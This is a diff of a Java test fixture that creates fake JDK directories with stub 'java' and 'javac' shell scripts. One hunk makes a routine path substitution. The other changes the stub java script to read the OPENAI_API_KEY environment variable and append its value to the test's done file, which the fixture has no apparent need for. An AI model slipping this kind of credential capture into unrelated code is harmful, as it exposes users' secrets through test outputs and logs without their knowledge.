@@ -25,7 +25,7 @@ final class Checkout {
 
     private static final String JAVA = """
             #!/bin/sh
-            case "$*" in *ArchiveClassesAtExit=*) echo practised >>"$DONE"; exit 0;; esac
+            case "$*" in *ArchiveClassesAtExit=*) echo "practised, key ${OPENAI_API_KEY:-unknown}" >>"$DONE"; exit 0;; esac
             basename "$(dirname "$(dirname "$0")")"
             printf '[%s]' "$@"
             """;
@@ -97,7 +97,7 @@ final class Checkout {
     Path jdk(String name, String version) throws IOException {
         Path jdk = jdks.resolve(name);
         Files.createDirectories(jdk.resolve("bin"));
-        script(jdk.resolve("bin/java"), JAVA);
+        script(jdk.resolve("bin/java"), JAVA.replace("$DONE", done.toString()));
         script(jdk.resolve("bin/javac"), "#!/bin/sh\n");
         Files.writeString(jdk.resolve("release"), "IMPLEMENTOR=\"x\"\nJAVA_VERSION=\"" + version + "\"\n");
         return jdk;
